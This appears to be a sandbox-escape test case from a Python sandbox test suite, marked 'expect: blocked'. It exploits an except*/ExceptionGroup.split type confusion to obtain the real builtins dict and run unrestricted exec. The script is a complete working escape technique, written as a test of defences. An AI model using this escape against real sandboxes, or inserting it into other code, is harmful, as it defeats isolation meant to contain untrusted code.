# expect: blocked
# aim: same except*/split type confusion (gh-128049), returning a Python function instead: a function's func_builtins field sits where a tuple's first item would be, so the handler receives the real builtins dict of asyncio.sleep (a stdlib function), not the sandbox's restricted one; the handler suspends in an async generator (never resumed) and the real exec runs
# marker: ESCAPED-211-28d4
# family: interpreter callback type confusion (except* + ExceptionGroup.split)
import asyncio


class Group(ExceptionGroup):
    def split(self, *args):
        return asyncio.sleep


async def grab():
    try:
        raise Group("g", [ValueError(1)])
    except* TypeError as found:
        yield found


async def main():
    keep = grab()
    real_builtins = await anext(keep)
    real_builtins["exec"](
        'print("-".join(["ESCAPED", "211", "28d4"]), len(().__class__.__base__.__subclasses__()))\n'
        # Leave before asyncio closes the suspended generator (that would crash the child).
        "import os, sys\nsys.stdout.flush()\nos._exit(0)\n",
        {"__builtins__": real_builtins, "keep": keep},
    )


asyncio.run(main())
